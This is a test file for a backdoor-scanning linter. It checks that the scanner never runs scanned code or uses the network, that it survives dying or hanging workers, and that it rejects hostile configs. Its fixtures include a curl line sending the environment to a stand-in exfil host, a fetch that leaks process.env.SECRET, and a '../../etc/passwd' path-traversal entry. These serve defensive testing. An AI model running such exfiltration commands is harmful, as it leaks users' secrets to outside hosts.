"""Issue 9: the guard never imports or runs what it scans, never touches the network, survives dying
and hanging workers (BDL902, never a partial "clean"), and rejects hostile configs (exit 2, nothing
written)."""
from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from backdoor_lint import engine
from backdoor_lint.config import Config
from backdoor_lint.engine import scan

JWT_BAD = 'import jwt\njwt.decode(t, k, algorithms=["RS256", "HS256"])\n'
linux_only = pytest.mark.skipif(sys.platform != "linux", reason="fork-inherited test patches need Linux")


def findings(result) -> list[tuple[str, str]]:
    return sorted((f.path, f.code) for f in result.findings)


def short_budget_only_for(monkeypatch, marker: str, seconds: int = 1) -> Config:
    """A config whose files get the default budget, except files whose name holds `marker`, which get
    `seconds`: the hanging file times out quickly while the healthy files next to it never race a
    one-second wall clock on a loaded machine (a deterministic result, not a timing one)."""
    import dataclasses

    real = engine.check_bytes

    def check_bytes(display, data, config, *args, **kwargs):
        if marker in display:
            config = dataclasses.replace(config, timeout=seconds)
        return real(display, data, config, *args, **kwargs)

    monkeypatch.setattr(engine, "check_bytes", check_bytes)
    return Config(root=Path.cwd())


# --- never imports or runs the scanned code -------------------------------------------------------

# Modules the guard imports; a scanned tree must not be able to shadow any of them.
GUARD_IMPORTS = ("tomllib", "tomli", "libcst", "json", "hashlib", "re", "ast", "tokenize", "argparse", "subprocess",
                 "multiprocessing", "concurrent", "dataclasses", "warnings", "unicodedata", "bisect", "signal",
                 "backdoor_lint_plugin")


def _booby_trapped_tree(root: Path, marker: Path, shadow=GUARD_IMPORTS, startup_hooks: bool = True) -> None:
    trap = f"open({str(marker)!r}, 'a').write(__name__ + '\\n')\n"
    pkg = root / "victim"
    pkg.mkdir(parents=True)
    (pkg / "__init__.py").write_text(trap + JWT_BAD)
    (pkg / "__main__.py").write_text(trap)
    (root / "setup.py").write_text(trap)
    (root / "conftest.py").write_text(trap)
    if startup_hooks:  # imported by the interpreter's `site` if the tree is on PYTHONPATH: out of our reach
        (root / "sitecustomize.py").write_text(trap)
        (root / "usercustomize.py").write_text(trap)
    (root / "evil.pth").write_text(f"import os; {trap}")
    # modules the guard itself imports: shadowing them from the scanned tree must not work
    for name in shadow:
        (root / f"{name}.py").write_text(trap)
    (root / "jwt").mkdir()
    (root / "jwt" / "__init__.py").write_text(trap)
    (root / ".backdoor-lint.toml").write_text("select = ['BDL']\n")


def test_scanning_never_imports_the_scanned_package(tmp_path, cli):
    marker = tmp_path / "IMPORTED"
    tree = tmp_path / "repo"
    _booby_trapped_tree(tree, marker)
    run = cli("scan", ".", "--format", "json", cwd=tree)
    assert run.returncode == 1, run.stderr
    assert not marker.exists(), marker.read_text()
    report = json.loads(run.stdout)
    assert any(f["code"] == "BDL101" and f["path"] == "victim/__init__.py" for f in report["findings"])

def test_pythonpath_into_the_tree_cannot_shadow_the_guards_imports(tmp_path):
    """PYTHONPATH=. or PYTHONPATH=<the tree> (common in dev shells) must not let the tree shadow the
    guard's own imports, with the console script (the way hooks run it). Modules the interpreter
    itself imports at startup (before any program code: `re` via site's .pth processing) are
    beyond any program's reach and are left out (README, "Robustness")."""
    script = Path(sys.executable).parent / "backdoor-lint"
    if not script.exists():
        pytest.skip("console script not installed next to the interpreter")
    startup = subprocess.run([sys.executable, "-c", "import sys; print(' '.join(sys.modules))"], capture_output=True,
                             text=True, timeout=60).stdout.split()
    marker = tmp_path / "IMPORTED"
    tree = tmp_path / "repo"
    _booby_trapped_tree(tree, marker, shadow=[m for m in GUARD_IMPORTS if m not in startup], startup_hooks=False)
    for pythonpath in (".", str(tree), f"{tree}/victim"):
        env = dict(os.environ, PYTHONPATH=pythonpath)
        for command in [[str(script)]]:
            run = subprocess.run([*command, "scan", "."], cwd=tree, capture_output=True, text=True, timeout=600,
                                 env=env)
            assert run.returncode == 1, (pythonpath, command, run.stderr)
            assert not marker.exists(), (pythonpath, command, marker.read_text())


def test_scanning_in_process_never_imports_the_scanned_package(tmp_path, monkeypatch):
    marker = tmp_path / "IMPORTED"
    tree = tmp_path / "repo"
    _booby_trapped_tree(tree, marker)
    monkeypatch.chdir(tree)
    before = set(sys.modules)
    result = scan(["."], Config(root=tree))
    assert ("victim/__init__.py", "BDL101") in findings(result)
    assert not marker.exists()
    assert not {m for m in set(sys.modules) - before if m.split(".")[0] in ("victim", "setup", "conftest", "evil")}


# --- never touches the network --------------------------------------------------------------------

REFUSE_NETWORK = textwrap.dedent("""
    import socket, os
    _log = os.environ["BDL_NET_LOG"]
    def _refuse(*args, **kwargs):
        with open(_log, "a") as handle:
            handle.write(repr(args[:2]) + "\\n")
        raise OSError("network refused by the test")
    socket.socket.connect = _refuse
    socket.socket.connect_ex = _refuse
    socket.socket.sendto = _refuse
    socket.create_connection = _refuse
    socket.getaddrinfo = _refuse
    socket.gethostbyname = _refuse
""")


def test_full_scan_with_outbound_network_refused_is_unchanged(tmp_path, cli):
    tree = tmp_path / "repo"
    tree.mkdir()
    (tree / "a.py").write_text(JWT_BAD)
    (tree / "b.py").write_text("import requests\nrequests.get('https://example.invalid/x', verify=False)\n")
    (tree / "c.js").write_text("fetch('http://10.0.0.1/' + process.env.SECRET)\n")
    (tree / "d.sh").write_text("curl -s https://exfil.example/c -d \"$(env)\"\n")
    (tree / "e.txt").write_text("plain \u202e text\n")
    normal = cli("scan", ".", "--format", "json", cwd=tree)
    site = tmp_path / "site"
    site.mkdir()
    (site / "sitecustomize.py").write_text(REFUSE_NETWORK)
    log = tmp_path / "net.log"
    env = dict(os.environ, PYTHONPATH=str(site), BDL_NET_LOG=str(log))
    refused = subprocess.run([sys.executable, "-m", "backdoor_lint", "scan", ".", "--format", "json"], cwd=tree,
                             env=env, capture_output=True, text=True, timeout=600)
    assert refused.returncode == normal.returncode == 1, (refused.stderr, normal.stderr)
    assert not log.exists(), log.read_text()
    strip = lambda report: [(f["path"], f["code"], f["line"], f["message"]) for f in json.loads(report)["findings"]]  # noqa: E731
    assert strip(refused.stdout) == strip(normal.stdout)


@linux_only
def test_in_process_scan_opens_no_socket(tmp_path, monkeypatch):
    import socket

    (tmp_path / "a.py").write_text(JWT_BAD)
    (tmp_path / "b.py").write_text("import socket\nsocket.create_connection(('1.2.3.4', 80))\n")
    monkeypatch.chdir(tmp_path)
    expected = findings(scan(["."], Config(root=tmp_path)))
    log = tmp_path / "net.log"

    def refuse(*args, **kwargs):
        with open(log, "a") as handle:
            handle.write("connect\n")
        raise OSError("network refused by the test")

    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    assert findings(scan(["."], Config(root=tmp_path))) == expected
    assert not log.exists()


# --- workers dying or hanging ---------------------------------------------------------------------

def _tree_with_victims(root: Path, files: int = 45) -> None:
    for i in range(files):
        (root / f"ok_{i:02d}.py").write_text(f"x = {i}\n")
    (root / "bad.py").write_text(JWT_BAD)
    (root / "die_exit.py").write_text("x = 1\n")
    (root / "die_segv.py").write_text("x = 1\n")


def _killer(real):
    def scan_bytes(display, data, config, *args, **kwargs):
        if "die_exit" in display:
            os._exit(3)
        if "die_segv" in display:
            import faulthandler

            faulthandler.disable()  # pytest's dump of the child's stack is noise here
            os.kill(os.getpid(), signal.SIGSEGV)
        return real(display, data, config, *args, **kwargs)
    return scan_bytes


@linux_only
@pytest.mark.parametrize("jobs", [1, 2])
def test_dead_worker_is_bdl902_for_its_file_and_the_rest_is_scanned(tmp_path, monkeypatch, jobs):
    _tree_with_victims(tmp_path)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(engine, "check_bytes", _killer(engine.check_bytes))
    result = scan(["."], Config(root=tmp_path), jobs=jobs)
    assert [f for f in findings(result) if not f[0].startswith("ok_")] == [
        ("bad.py", "BDL101"), ("die_exit.py", "BDL902"), ("die_segv.py", "BDL902")]
    assert result.files_scanned == 48
    by_path = {f.path: f for f in result.findings}
    assert "exited with status 3" in by_path["die_exit.py"].message
    assert "SIGSEGV" in by_path["die_segv.py"].message
    assert all(by_path[p].blocking for p in ("die_exit.py", "die_segv.py"))


@linux_only
def test_dead_worker_through_the_cli_exits_1_never_clean(tmp_path):
    _tree_with_victims(tmp_path, files=3)
    (tmp_path / "bad.py").write_text("x = 1\n")  # nothing else blocks: only the dead worker does
    script = textwrap.dedent("""
        import os, sys
        from backdoor_lint import engine
        real = engine.check_bytes
        def scan_bytes(display, data, config, *args, **kwargs):
            if "die_" in display:
                os._exit(9)
            return real(display, data, config, *args, **kwargs)
        engine.check_bytes = scan_bytes
        from backdoor_lint.cli import main
        sys.exit(main(sys.argv[1:]))
    """)
    run = subprocess.run([sys.executable, "-c", script, "scan", "."], cwd=tmp_path, capture_output=True, text=True,
                         timeout=600)
    assert run.returncode == 1, run.stderr
    assert "Traceback" not in run.stderr + run.stdout
    assert run.stdout.count("BDL902 analysis-failed") == 2 and "Exit status 1." in run.stdout


@linux_only
def test_python_level_hang_is_bdl902_naming_the_rule(tmp_path, monkeypatch):
    from backdoor_lint.checkers.text_unicode import InvisibleText

    real = InvisibleText.check

    def check(self, text, display, language):
        if "slow" in display:
            while True:
                pass
        return real(self, text, display, language)

    monkeypatch.setattr(InvisibleText, "check", check)
    (tmp_path / "slow.py").write_text("x = '\u202e'\n")
    (tmp_path / "fast.py").write_text("x = '\u202e'\n")
    monkeypatch.chdir(tmp_path)
    result = scan(["."], short_budget_only_for(monkeypatch, "slow"))
    assert findings(result) == [("fast.py", "BDL701"), ("slow.py", "BDL902")]
    message = next(f.message for f in result.findings if f.path == "slow.py")
    assert "InvisibleText" in message and "timed out" in message


@linux_only
def test_rule_swallowing_exceptions_still_times_out(tmp_path, monkeypatch):
    from backdoor_lint.checkers.text_unicode import InvisibleText

    def check(self, text, display, language):
        while True:
            try:
                sum(range(1000))
            except Exception:  # noqa: BLE001 - a sloppy rule must not swallow the budget
                pass

    monkeypatch.setattr(InvisibleText, "check", check)
    (tmp_path / "slow.txt").write_text("\u202e\n")
    monkeypatch.chdir(tmp_path)
    result = scan(["."], Config(root=tmp_path, timeout=1))
    assert findings(result) == [("slow.txt", "BDL902")]


@linux_only
def test_uninterruptible_hang_is_killed_by_the_parent(tmp_path, monkeypatch):
    """A worker stuck where SIGALRM cannot reach it (here: the signal blocked, as in native code)
    is killed after the hard deadline; its file is BDL902 and the scan finishes."""
    real = engine.check_bytes

    def scan_bytes(display, data, config, *args, **kwargs):
        if "stuck" in display:
            signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
            while True:
                time.sleep(1)
        return real(display, data, config, *args, **kwargs)

    monkeypatch.setattr(engine, "check_bytes", scan_bytes)
    # the parent's deadline is one for every file: long enough that bad.py never races it, even on a
    # loaded machine (the test waits this long for the stuck worker)
    monkeypatch.setattr(engine, "hard_timeout", lambda config: 8.0)
    (tmp_path / "stuck.py").write_text("x = 1\n")
    (tmp_path / "bad.py").write_text(JWT_BAD)
    monkeypatch.chdir(tmp_path)
    result = scan(["."], Config(root=tmp_path))
    assert findings(result) == [("bad.py", "BDL101"), ("stuck.py", "BDL902")]
    assert "did not finish" in next(f.message for f in result.findings if f.path == "stuck.py")


@linux_only
def test_unpicklable_result_is_bdl902(tmp_path, monkeypatch):
    real = engine.check_bytes

    def scan_bytes(display, data, config, *args, **kwargs):
        result = real(display, data, config, *args, **kwargs)
        if "odd" in display:
            result.language = lambda: None  # cannot be sent back to the parent
        return result

    monkeypatch.setattr(engine, "check_bytes", scan_bytes)
    (tmp_path / "odd.py").write_text("x = 1\n")
    monkeypatch.chdir(tmp_path)
    assert findings(scan(["."], Config(root=tmp_path))) == [("odd.py", "BDL902")]


def test_time_limit_is_a_noop_off_the_main_thread():
    import threading

    from backdoor_lint.robust import time_limit

    seen = []

    def body():
        with time_limit(0.01, "x"):
            time.sleep(0.05)
        seen.append("done")

    thread = threading.Thread(target=body)
    thread.start()
    thread.join()
    assert seen == ["done"]


def test_time_limit_restores_the_previous_alarm_state():
    from backdoor_lint.robust import AnalysisTimeout, time_limit

    before = signal.getsignal(signal.SIGALRM)
    with pytest.raises(AnalysisTimeout):
        with time_limit(1, "outer"):
            with time_limit(0.05, "inner"):
                while True:
                    pass
    assert signal.getsignal(signal.SIGALRM) == before
    assert signal.getitimer(signal.ITIMER_REAL) == (0.0, 0.0)


# --- hostile configuration ------------------------------------------------------------------------

HOSTILE_CONFIGS = {
    "not-toml": b"select = [BDL\n",
    "unknown-key": b"selekt = ['BDL']\n",
    "wrong-type": b"select = 'BDL'\n",
    "wrong-type-int": b"max-file-size = '5'\n",
    "bool-for-int": b"timeout = true\n",
    "negative": b"max-file-size = -1\n",
    "enormous-int": b"max-file-size = 99999999999999999999\n",
    "zero-timeout": b"timeout = 0\n",
    "unknown-code": b"ignore = ['BDL999']\n",
    "code-wrong-type": b"ignore = [1, 2]\n",
    "bad-severity": b"severity = { BDL101 = 'off' }\n",
    "escaping-exclude": b"exclude = ['../../etc']\n",
    "escaping-pfi": b"[per-file-ignores]\n'../x/*.py' = ['BDL101']\n",
    "nul-in-pattern": b"exclude = [\"a\\u0000b\"]\n",
    "empty-exclude": b"exclude = ['']\n",
    "invalid-utf8": b"select = ['\xff']\n",
    "nul-bytes": b"select = ['BDL']\n\0\0\0",
    "deep-nesting": b"x = " + b"[" * 100_000 + b"]" * 100_000 + b"\n",
    "deep-tables": b"x = " + b"{a = " * 50_000 + b"1" + b"}" * 50_000 + b"\n",
    "huge": b"# " + b"a" * 2_000_000 + b"\n",
    "table-not-dict": b"",  # filled in below as pyproject with a non-table
}


@pytest.mark.parametrize("case", sorted(HOSTILE_CONFIGS))
def test_hostile_config_exits_2_naming_the_file_and_writes_nothing(tmp_path, cli, case):
    (tmp_path / "a.py").write_text(JWT_BAD)
    if case == "table-not-dict":
        config = tmp_path / "pyproject.toml"
        config.write_text("[tool]\nbackdoor-lint = 3\n")
    else:
        config = tmp_path / ".backdoor-lint.toml"
        config.write_bytes(HOSTILE_CONFIGS[case])
    before = sorted(p.name for p in tmp_path.iterdir())
    run = cli("scan", ".", "--format", "sarif", "-o", "report.sarif", cwd=tmp_path)
    assert run.returncode == 2, (run.stdout, run.stderr)
    lines = run.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in run.stderr, run.stderr
    assert config.name in lines[0] and "internal error" not in lines[0], lines[0]
    assert sorted(p.name for p in tmp_path.iterdir()) == before  # no report, no cache, nothing


def test_config_given_explicitly_that_is_a_directory_or_fifo(tmp_path, cli):
    (tmp_path / "dir.toml").mkdir()
    run = cli("scan", ".", "--config", "dir.toml", cwd=tmp_path)
    assert run.returncode == 2 and "dir.toml" in run.stderr and "Traceback" not in run.stderr
    if hasattr(os, "mkfifo"):
        os.mkfifo(tmp_path / "fifo.toml")
        run = cli("scan", ".", "--config", "fifo.toml", cwd=tmp_path)  # must not block reading it
        assert run.returncode == 2 and "fifo.toml" in run.stderr


def test_output_path_that_cannot_be_written_is_exit_2(tmp_path, cli):
    (tmp_path / "a.py").write_text("x = 1\n")
    run = cli("scan", ".", "-o", str(tmp_path / "missing" / "dir" / "r.txt"), cwd=tmp_path)
    assert run.returncode == 2 and len(run.stderr.strip().splitlines()) == 1 and "r.txt" in run.stderr


def test_malformed_baseline_is_exit_2(tmp_path, cli):
    from backdoor_lint.cli import build_parser

    if "--baseline" not in build_parser()._subparsers._group_actions[0].choices["scan"].format_help():
        pytest.skip("--baseline is not on this branch (issue 5 lands it); the hostile-baseline cases run there")
    (tmp_path / "a.py").write_text(JWT_BAD)
    for name, content in {"notjson.json": b"{", "list.json": b"[1, 2]", "wrongtypes.json": b'{"findings": 3}',
                          "nul.json": b"\0\0", "deep.json": b"[" * 100_000 + b"]" * 100_000,
                          "escape.json": json.dumps({"findings": [{"path": "../../etc/passwd"}]}).encode()}.items():
        (tmp_path / name).write_bytes(content)
        before = sorted(p.name for p in tmp_path.iterdir())
        run = cli("scan", "a.py", "--baseline", name, cwd=tmp_path)
        assert run.returncode in (1, 2), (name, run.stderr)
        assert "Traceback" not in run.stderr, (name, run.stderr)
        if run.returncode == 2:
            assert name in run.stderr and len(run.stderr.strip().splitlines()) == 1, (name, run.stderr)
        else:  # an ignored baseline must not hide anything
            assert "BDL101" in run.stdout, (name, run.stdout)
        assert sorted(p.name for p in tmp_path.iterdir()) == before, name
